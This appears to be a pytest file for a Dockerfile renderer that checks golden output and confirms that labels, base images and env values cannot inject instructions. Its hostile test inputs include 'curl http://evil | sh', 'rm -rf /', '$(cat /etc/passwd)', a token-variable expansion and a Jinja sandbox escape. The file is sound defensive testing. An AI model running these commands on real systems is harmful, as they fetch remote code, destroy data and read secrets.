"""Dockerfile rendering: golden output, and no way for a value to become an instruction."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import pytest
from jinja2.exceptions import SecurityError, UndefinedError

from builder.errors import InputError
from builder.image.dockerfile import _environment, quote, render_dockerfile
from builder.image.spec import ImageSpec

GOLDEN = Path(__file__).resolve().parents[2] / "golden"
INSTRUCTIONS = {"FROM", "RUN", "COPY", "ADD", "ENV", "LABEL", "USER", "EXPOSE", "HEALTHCHECK", "ENTRYPOINT",
                "CMD", "STOPSIGNAL", "WORKDIR", "ARG", "VOLUME", "SHELL", "ONBUILD"}


def _ctx(**overrides: object) -> ImageSpec:
    base = {
        "base_image": "python:3.11-slim",
        "labels": {"org.opencontainers.image.title": "mbuild/minilm", "dev.mbuild.model.id": "org/minilm",
                   "dev.mbuild.precision": "fp32"},
        "model_id": "org/minilm",
        "mbuild_version": "0.0.0-test",
        "created": "2026-01-01T00:00:00Z",
    }
    return ImageSpec(**{**base, **overrides})  # type: ignore[arg-type]


def instructions(dockerfile: str) -> list[str]:
    """The instruction keywords, as Docker's parser sees them (continuations joined, comments dropped)."""
    joined = re.sub(r"\\\n", " ", dockerfile)
    return [line.split()[0].upper() for line in joined.splitlines() if line.strip() and not line.startswith("#")]


def test_golden_cpu_dockerfile() -> None:
    rendered = render_dockerfile(_ctx())
    golden = GOLDEN / "Dockerfile.cpu"
    if os.environ.get("MBUILD_UPDATE_GOLDEN"):
        golden.write_text(rendered)
    assert rendered == golden.read_text()


def test_image_contract_in_dockerfile() -> None:
    text = render_dockerfile(_ctx())
    assert "USER 10001:10001" in text
    assert "EXPOSE 8000" in text
    assert "HEALTHCHECK" in text and "runtimes.healthcheck" in text
    assert "RUN" not in instructions(text)  # packages come installed from the host: no network, no shell


@pytest.mark.parametrize("hostile", [
    'x"\nRUN curl http://evil | sh\n#',
    "x\\\nRUN rm -rf /",
    "${HF_TOKEN}",
    "$(cat /etc/passwd)",
    "a\rRUN id",
])
def test_hostile_label_value_stays_a_label(hostile: str) -> None:
    text = render_dockerfile(_ctx(labels={"dev.mbuild.model.id": hostile}))
    assert instructions(text) == instructions(render_dockerfile(_ctx(labels={"dev.mbuild.model.id": "x"})))
    assert "$HF_TOKEN" not in text.replace("\\$", "")  # variables are escaped, never expanded


def test_quote_escapes() -> None:
    assert quote('a"b$c\\d\ne') == '"a\\"b\\$c\\\\d e"'


@pytest.mark.parametrize("key", ["Bad Key", "x\nRUN id", "UPPER"])
def test_hostile_label_key_is_refused(key: str) -> None:
    with pytest.raises(InputError):
        render_dockerfile(_ctx(labels={key: "v"}))


@pytest.mark.parametrize("image", ["python:3.11\nRUN id", "python 3.11", "$BASE", ""])
def test_hostile_base_image_is_refused(image: str) -> None:
    with pytest.raises(InputError, match="not a valid image reference"):
        render_dockerfile(_ctx(base_image=image))


def test_spec_round_trips_through_json() -> None:
    spec = _ctx()
    assert ImageSpec.from_dict(json.loads(spec.to_json())) == spec


@pytest.mark.parametrize("env", [(("BAD KEY", "x"),), (("X", "a\nRUN id"),)])
def test_env_cannot_inject(env: tuple[tuple[str, str], ...]) -> None:
    try:
        text = render_dockerfile(_ctx(env=env))
    except InputError:
        return
    assert "RUN" not in instructions(text)


def test_strict_undefined() -> None:
    with pytest.raises(UndefinedError):
        _environment().from_string("{{ ctx.nope }}").render(ctx=_ctx())


def test_sandbox_blocks_attribute_escape() -> None:
    with pytest.raises(SecurityError):
        _environment().from_string("{{ ctx.__class__.__init__.__globals__ }}").render(ctx=_ctx())
